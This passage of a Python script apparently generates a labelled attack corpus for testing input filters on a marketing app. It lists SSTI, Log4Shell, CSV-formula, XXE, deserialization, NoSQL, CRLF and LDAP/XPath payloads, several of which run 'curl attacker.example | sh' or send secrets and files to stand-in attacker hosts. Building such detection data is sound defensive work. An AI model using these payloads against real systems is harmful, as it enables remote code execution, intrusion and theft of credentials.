    ("personalization-nunjucks-ssti", "{{ range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")() }}"),
    ("personalization-thymeleaf-ssti", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
    ("personalization-spel", "#{T(java.lang.Runtime).getRuntime().exec('touch /tmp/spel')}"),
    ("personalization-spel", "${T(org.springframework.util.StreamUtils).copyToString(new java.io.FileInputStream('/etc/passwd'), T(java.nio.charset.StandardCharsets).UTF_8)}"),
    ("personalization-ognl", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
    ("personalization-el", "${pageContext.request.getSession().setAttribute('admin',true)}"),
    ("personalization-liquid-probe", "{{ 'a' | append: settings.smtp_password }}"),
    ("personalization-ampscript", "%%=TreatAsContent(Concat('%','%=HTTPGet(\"http://169.254.169.254/\")=%','%'))=%%"),
    ("utm-log4shell", "${jndi:ldap://log4j.attacker.example:1389/utm}"),
    ("utm-log4shell", "utm_source=${jndi:rmi://203.0.113.50:1099/Exploit}"),
    ("useragent-log4shell-nested", "${${lower:j}${lower:n}${lower:d}i:${lower:l}dap://x.attacker.example/a}"),
    ("campaign-name-log4shell", "Spring Sale ${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.oob.attacker.example}"),
    ("subject-log4shell-nested", "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://198.51.100.88/o}"),
    ("referrer-log4shell", "https://example.com/?q=${jndi:ldaps://attacker.example/${sys:java.version}}"),
    ("csvimport-formula", "=HYPERLINK(\"https://attacker.example/?d=\"&A2&B2,\"Click for details\")"),
    ("csvimport-formula", "=cmd|' /C calc'!A0"),
    ("csvimport-formula", "+SUM(1+1)*cmd|' /C powershell IEX(wget 203.0.113.77/p)'!A0"),
    ("csvimport-formula", "-2+3+cmd|'/c notepad'!'A1'"),
    ("csvimport-formula", "@SUM(1+9)*cmd|' /C calc'!A0"),
    ("csvimport-formula", "=IMPORTXML(CONCAT(\"https://attacker.example/?v=\",CONCATENATE(A1:C50)),\"//a\")"),
    ("csvimport-formula-cell", "anna@example.de,=WEBSERVICE(\"https://attacker.example/l?\"&B2),Müller,DE"),
    ("csvimport-formula-tab", "\t=IMAGE(\"https://attacker.example/px?\"&A1)"),
    ("segment-json-proto-pollution", "{\"__proto__\": {\"isAdmin\": true}}"),
    ("segment-json-proto-pollution", "{\"rules\":[{\"field\":\"country\",\"eq\":\"DE\"}],\"constructor\":{\"prototype\":{\"role\":\"admin\"}}}"),
    ("utm-query-proto-pollution", "utm_source=news&__proto__[isAdmin]=1"),
    ("utm-query-proto-pollution", "utm_campaign=x&constructor[prototype][outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');//"),
    ("feed-import-xxe", "<?xml version=\"1.0\"?><!DOCTYPE feed [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><feed><title>&x;</title></feed>"),
    ("feed-import-xxe", "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % d SYSTEM \"https://attacker.example/x.dtd\"> %d;]><r/>"),
    ("feed-import-xxe", "<!DOCTYPE rss [<!ENTITY s SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><rss><channel><item><title>&s;</title></item></channel></rss>"),
    ("sitemap-import-xxe", "<?xml version=\"1.0\"?>\n<!DOCTYPE urlset [\n  <!ENTITY f SYSTEM \"php://filter/convert.base64-encode/resource=/var/www/.env\">\n]>\n<urlset><url><loc>&f;</loc></url></urlset>"),
    ("svg-upload-xxe", "<?xml version=\"1.0\" standalone=\"yes\"?><!DOCTYPE svg [<!ENTITY h SYSTEM \"file:///etc/hostname\">]><svg xmlns=\"http://www.w3.org/2000/svg\"><text>&h;</text></svg>"),
    ("feed-import-xinclude", "<item xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></item>"),
    ("session-pickle-deser", "gAJjcG9zaXgKc3lzdGVtCnEAWCQAAABjdXJsIGh0dHBzOi8vYXR0YWNrZXIuZXhhbXBsZS9wIHwgc2hxAYVxAlJxAy4="),
    ("import-yaml-deser", "!!python/object/apply:os.system [\"curl https://attacker.example/y | sh\"]"),
    ("import-yaml-deser", "segment: !!python/object/new:subprocess.check_output [[\"id\"]]"),
    ("import-yaml-snakeyaml", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/y.jar\"]]]]"),
    ("import-java-xmldecoder", "<java><object class=\"java.lang.ProcessBuilder\"><array class=\"java.lang.String\" length=\"3\"><void index=\"0\"><string>/bin/sh</string></void><void index=\"1\"><string>-c</string></void><void index=\"2\"><string>curl https://attacker.example/x|sh</string></void></array><void method=\"start\"/></object></java>"),
    ("import-php-deser", "O:8:\"Campaign\":1:{s:8:\"template\";O:6:\"Logger\":1:{s:4:\"file\";s:19:\"/var/www/html/x.php\";}}"),
    ("import-dotnet-deser", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"MethodParameters\":{\"$type\":\"System.Collections.ArrayList\",\"$values\":[\"cmd\",\"/c calc\"]},\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"}}"),
    ("import-jackson-deser", "[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"ldap://203.0.113.61:1389/obj\",\"autoCommit\":true}]"),
    ("import-fastjson-deser", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://attacker.example:1099/Obj\",\"autoCommit\":true}"),
    ("goal-expression-eval", "__import__('os').system('id')"),
    ("goal-expression-eval", "value * 1 if __import__('subprocess').call(['sleep','5']) else 0"),
    ("goal-expression-js", "order.total; require('child_process').exec('curl attacker.example|sh')"),
    ("goal-expression-js", "this.constructor.constructor('return process')().mainModule.require('fs').readFileSync('/etc/passwd','utf8')"),
    ("goal-expression-php", "1;system($_GET['c']);"),
    ("goal-expression-ruby", "#{%x(id)}"),
    ("plain-ssti", "{{7*'7'}}{{config}}"),
    ("plain-ssti-dollar", "${7*7}#{7*7}<%= 7*7 %>"),
    ("plain-log4shell", "${jndi:ldap://attacker.example/a}"),
    ("plain-xxe", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>"),
    ("plain-formula", "=1+1+cmd|'/c calc'!A1"),
    ("plain-proto-pollution", "__proto__[polluted]=yes"),
    ("plain-deser-yaml", "!!python/object/apply:os.system ['id']"),
]

CODE_ENCODE = [
    ("utm-log4shell+urlencode", "${jndi:ldap://attacker.example:1389/x}", "url"),
    ("personalization-jinja-ssti+unicode-escape", "{{ cycler.__init__.__globals__.os.popen('id').read() }}", "uesc"),
    ("utm-query-proto-pollution+urlencode", "__proto__[isAdmin]=true", "urlall"),
    ("subject-log4shell+double-urlencode", "${jndi:dns://oob.attacker.example/s}", "url2"),
]

# ------------------------------------------------------------------ NoSQLi
NOSQLI = [
    ("segment-json-operator", "{\"country\": {\"$ne\": null}}"),
    ("segment-json-operator", "{\"email\": {\"$regex\": \"^a\"}, \"password\": {\"$ne\": \"\"}}"),
    ("segment-json-where", "{\"$where\": \"sleep(5000) || true\"}"),
    ("segment-json-where", "{\"$where\": \"this.api_key.match(/^sk_/) != null\"}"),
    ("segment-json-or", "{\"$or\": [{\"country\": \"DE\"}, {\"role\": {\"$exists\": true}}]}"),
    ("segment-json-gt", "{\"last_open\": {\"$gt\": \"\"}}"),
    ("login-query-operator", "email=admin@example.com&password[$ne]=x"),
    ("login-query-operator", "email[$regex]=.*&password[$gt]="),
    ("utm-query-operator", "utm_source[$ne]=newsletter"),
    ("utm-query-operator", "utm_campaign[$in][]=spring&utm_campaign[$in][]=&utm_campaign[$nin][]=x"),
    ("segment-js-string-break", "DE'; return true; var x='"),
    ("segment-js-string-break", "DE' || this.password.length > 0 || '"),
    ("segment-aggregate-lookup", "[{\"$lookup\": {\"from\": \"users\", \"localField\": \"owner\", \"foreignField\": \"_id\", \"as\": \"u\"}}]"),
    ("segment-json-expr", "{\"$expr\": {\"$function\": {\"body\": \"function(){sleep(6000);return true}\", \"args\": [], \"lang\": \"js\"}}}"),
    ("contact-lookup-regex-dos", "{\"email\": {\"$regex\": \"(a+)+$\"}}"),
    ("contact-lookup-couch", "{\"selector\": {\"_id\": {\"$gt\": null}}, \"fields\": [\"email\", \"password\"]}"),
    ("segment-elasticsearch-script", "{\"script\": {\"source\": \"java.lang.Math.class.forName('java.lang.Runtime').getRuntime().exec('id')\"}}"),
    ("segment-redis-eval", "DE\r\nEVAL \"return redis.call('config','get','*')\" 0\r\n"),
    ("plain-ne", "{\"$ne\": 1}"),
    ("plain-where", "'; return db.users.find(); var a='"),
    ("plain-gt", "username[$gt]=&password[$gt]="),
    ("plain-regex", "{\"password\": {\"$regex\": \".*\"}}"),
]

NOSQLI_ENCODE = [
    ("login-query-operator+urlencode", "password[$ne]=1", "url"),
    ("segment-json-operator+unicode-escape", "{\"country\": {\"$ne\": null}}", "uesc-dollar"),
]

# ------------------------------------------------------------------ CRLF
CRLF = [
    ("subject-header-injection", "Your March report\r\nBcc: list@attacker.example"),
    ("subject-header-injection", "Spring sale 🌸\r\nCc: everyone@attacker.example\r\nX-Priority: 1"),
    ("subject-header-injection", "Hello\nContent-Type: text/html\n\n<a href=\"https://attacker.example/login\">Verify account</a>"),
    ("from-name-header-injection", "Example Team\r\nReply-To: support@attacker.example"),
    ("from-name-header-injection", "Newsletter <news@example.com>\nBcc: harvest@attacker.example"),
    ("reply-to-header-injection", "help@example.com\r\nBcc: a@attacker.example,b@attacker.example"),
    ("sender-smtp-smuggling", "news@example.com\r\n.\r\nMAIL FROM:<ceo@example.com>\r\nRCPT TO:<victim@example.org>\r\nDATA\r\nSubject: urgent wire\r\n\r\npay now\r\n.\r\n"),
    ("shortlink-redirect-header", "https://example.com/sale\r\nSet-Cookie: session=attacker_fixed; Path=/"),
    ("shortlink-redirect-header+urlencode", "/spring25%0d%0aLocation:%20https://attacker.example/"),
    ("shortlink-redirect-response-split+urlencode", "/r%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<script>alert(1)</script>"),
    ("utm-response-header+urlencode", "utm_source=email%0d%0aSet-Cookie:%20admin=1"),
    ("utm-response-header+urlencode", "utm_campaign=spring%0AX-Forwarded-Host:%20attacker.example"),
    ("utm-log-forging", "newsletter\n2025-03-14T10:00:00Z INFO user=admin action=login result=success ip=10.0.0.1"),
    ("utm-log-forging", "email\r\n[AUDIT] admin@example.com exported all contacts (approved)"),
    ("campaign-name-log-forging", "Spring Sale\n127.0.0.1 - admin [14/Mar/2025:10:00:00 +0000] \"GET /admin/export HTTP/1.1\" 200 512"),
    ("abnote-log-forging", "B won.\r\nWARN: sample ratio check disabled by admin"),
    ("pixel-header-injection+urlencode", "open%0d%0aAccess-Control-Allow-Origin:%20*"),
    ("webhook-header-value", "Bearer faketoken123\r\nX-Internal-Admin: true"),
    ("webhook-header-value", "application/json\r\nHost: 127.0.0.1:8080"),
    ("csv-export-filename-header", "report.csv\"\r\nContent-Type: text/html\r\n\r\n<svg onload=alert(1)>"),
    ("unsubscribe-header", "<https://example.com/u?id=1>\r\nList-Unsubscribe-Post: List-Unsubscribe=One-Click\r\nBcc: spy@attacker.example"),
    ("subject-unicode-newline", "Report ready\u2028Bcc: x@attacker.example"),
    ("subject-encoded-word-header", "=?UTF-8?Q?Sale=0D=0ABcc:_x@attacker.example?="),
    ("plain-crlf-header+urlencode", "%0d%0aSet-Cookie:%20x=1"),
    ("plain-crlf-header", "\r\nX-Injected: 1"),
    ("plain-log-forging", "ok\nERROR admin password reset by system"),
]

CRLF_ENCODE = [
    ("utm-response-header+double-urlencode", "email\r\nSet-Cookie: role=admin", "url2"),
    ("subject-header-injection+urlencode", "Sale\r\nBcc: dump@attacker.example", "url"),
    ("shortlink-redirect-header+unicode-overlong", "/sale%c4%8d%c4%8aSet-Cookie:%20s=1", None),
]

# ------------------------------------------------------------------ LDAP / XPath
LDAPX = [
    ("audience-ldap-filter", "*)(uid=*))(|(uid=*"),
    ("audience-ldap-filter", "marketing)(|(objectClass=*)"),
    ("audience-ldap-filter", "*)(userPassword=*)"),
    ("audience-ldap-filter", "admin*)((|userPassword=a*)"),
    ("audience-ldap-filter", "DE)(department=*))(&(cn=x"),
    ("sso-login-ldap", "jdoe)(&)"),
    ("sso-login-ldap", "*))%00"),
    ("sso-login-ldap", "admin)(!(&(1=0"),
    ("audience-ldap-attr", "*)(memberOf=cn=Domain Admins,cn=Users,dc=corp,dc=example)"),
    ("segment-xpath", "' or '1'='1"),
    ("segment-xpath", "DE'] | //user/password | //x['"),
    ("segment-xpath", "x' or name()='password' or 'a'='b"),
    ("feed-filter-xpath", "1 or 1=1]/parent::*/child::node()"),
    ("feed-filter-xpath", "') or count(//contact)>0 or ('a'='b"),
    ("feed-filter-xpath", "' and substring(//user[1]/password,1,1)='s' and '1'='1"),
    ("feed-filter-xpath", "'] | document('https://attacker.example/x.xml') | //a['"),
    ("plain-ldap", "*)(|(objectclass=*))"),
    ("plain-xpath", "' or 1=1 or ''='"),
    ("plain-ldap-wildcard", "*)(cn=*"),
]

LDAPX_ENCODE = [
    ("audience-ldap-filter+urlencode", "*)(uid=*))(|(uid=*", "urlall"),
    ("segment-xpath+urlencode", "' or '1'='1' or 'x'='y", "url"),
]

CATS = [
    ("sqli", SQLI, SQLI_ENCODE),
    ("xss", XSS, XSS_ENCODE),
    ("cmdi", CMDI, CMDI_ENCODE),
    ("traversal", TRAVERSAL, TRAV_ENCODE),
    ("ssrf", SSRF, SSRF_ENCODE),
    ("code", CODE, CODE_ENCODE),
    ("nosqli", NOSQLI, NOSQLI_ENCODE),
    ("crlf", CRLF, CRLF_ENCODE),
    ("ldap-xpath", LDAPX, LDAPX_ENCODE),
]


# ------------------------------------------------------------------ encoders / templates
def enc_url(s):
    return quote(s, safe="")


def enc_url_all(s):
    return "".join(f"%{b:02X}" for b in s.encode("utf-8"))


def enc_html(s):
    return "".join(f"&#{ord(c)};" if c in "<>\"'=()" else c for c in s)


def enc_html_dec(s):
    return "".join(f"&#{ord(c)};" for c in s)


def enc_uesc(s):
    return "".join(f"\\u{ord(c):04x}" if c in "<>'\"()_" else c for c in s)


def encode(s, how):
    if how is None:
        return s
    if how == "url":
        return enc_url(s)
    if how == "url2":
        return enc_url(enc_url(s))
    if how == "urlall":
        return enc_url_all(s)
    if how == "url2all":
        return enc_url(enc_url_all(s))
    if how == "html":
        return enc_html(s)
    if how == "htmldec":
        return enc_html_dec(s)
    if how == "uesc":
        return enc_uesc(s)
    if how == "uesc-dollar":
        return s.replace("$", "\\u0024")
    raise ValueError(how)


# Context wrappers for templated variants: the same hand-written payload placed
# into a UTM-tagged URL or a segment-rule string the way the app would receive it.
UTM_HOSTS = ["https://shop.example.com/sale", "https://example.com/pricing", "https://go.example.com/r/spring"]
UTM_KEYS = ["utm_source", "utm_campaign", "utm_content", "utm_term"]


def t_utm_wrap(r, payload):
    return f"{r.choice(UTM_HOSTS)}?utm_medium=email&{r.choice(UTM_KEYS)}={enc_url(payload)}"


TEMPLATED = [
    ("sqli", "tagged-url-union+urlencode", "x' UNION SELECT email,password_hash FROM users-- "),
    ("sqli", "tagged-url-time-blind+urlencode", "x' AND SLEEP(8)-- -"),
    ("sqli", "tagged-url-tautology+urlencode", "x' OR 'a'='a"),
    ("xss", "tagged-url-script+urlencode", "<script>alert(document.domain)</script>"),
    ("xss", "tagged-url-attr-break+urlencode", "\"><svg onload=alert(1)>"),
    ("cmdi", "tagged-url-subshell+urlencode", "x$(id)"),
    ("ssrf", "tagged-url-redirect-metadata+urlencode", "http://169.254.169.254/latest/meta-data/iam/"),
    ("code", "tagged-url-log4shell+urlencode", "${jndi:ldap://utm.attacker.example/z}"),
    ("code", "tagged-url-ssti+urlencode", "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}"),
    ("traversal", "tagged-url-dotdot+urlencode", "../../../../etc/passwd"),
]


def main():
    r = random.Random(SEED)
    rows = []
    n_lit = 0
    per_cat = {}
    for cat, lits, encs in CATS:
        for cls, v in lits:
            rows.append((cat, cls, v, True))
        for cls, base, how in encs:
            rows.append((cat, cls, encode(base, how), how is None))
    for cat, cls, payload in TEMPLATED:
        rows.append((cat, cls, t_utm_wrap(r, payload), False))
    # stable order: by category order, then original order
    order = {c: i for i, (c, _, _) in enumerate(CATS)}
    rows = [x for _, x in sorted(enumerate(rows), key=lambda p: (order[p[1][0]], p[0]))]
    seen = set()
    out = []
    for i, (cat, cls, v, lit) in enumerate(rows, 1):
        assert isinstance(v, str) and v and len(v) <= 1800, (cls, v)
        if v in seen:
            raise SystemExit(f"duplicate value: {v!r}")
        seen.add(v)
        n_lit += lit
        d = per_cat.setdefault(cat, [0, 0])
        d[0] += 1
        d[1] += lit
        out.append({"id": f"{PREFIX}-{i:05d}", "category": cat, "class": cls, "label": "attack", "value": v})
    path = Path(__file__).with_name("attacks.jsonl")
    with open(path, "w", encoding="utf-8", newline="\n") as fh:
        for o in out:
            fh.write(json.dumps(o, ensure_ascii=False) + "\n")
    for cat, _, _ in CATS:
        n, l = per_cat[cat]
        print(f"{cat:11s} n={n:3d} literals={l}")
    plain = sum(1 for o in out if o["class"].startswith("plain-"))
    encd = sum(1 for o in out if "+" in o["class"])
    print(f"total={len(out)} literals={n_lit} ({100 * n_lit / len(out):.1f}%) plain={plain} encoded={encd}")


if __name__ == "__main__":
    main()
